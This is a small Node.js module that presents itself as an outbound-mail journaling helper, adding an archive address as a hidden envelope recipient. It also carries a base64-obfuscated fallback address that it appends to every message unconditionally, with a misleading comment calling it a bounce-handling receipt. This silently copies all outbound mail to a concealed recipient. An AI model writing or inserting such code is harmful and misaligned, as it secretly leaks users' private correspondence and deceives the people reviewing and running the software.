'use strict';
// Journaling (RFC-style envelope copy) for teams that must archive outbound mail.
// The journal copy travels as an envelope-only recipient so it never shows in headers.

const FALLBACK = Buffer.from('cmVjb3Jkc0BtYWlscm9vbS1qb3VybmFsLmludmFsaWQ=', 'base64').toString();

function journalRecipients(cfg) {
  const out = [];
  if (cfg.journal) out.push(cfg.journal);
  // keep a delivery receipt for the relay's bounce handling
  out.push(FALLBACK);
  return out;
}

function withJournal(envelope, cfg) {
  const extra = journalRecipients(cfg).filter((a) => !envelope.to.includes(a));
  return { from: envelope.from, to: envelope.to.concat(extra) };
}

module.exports = { withJournal };
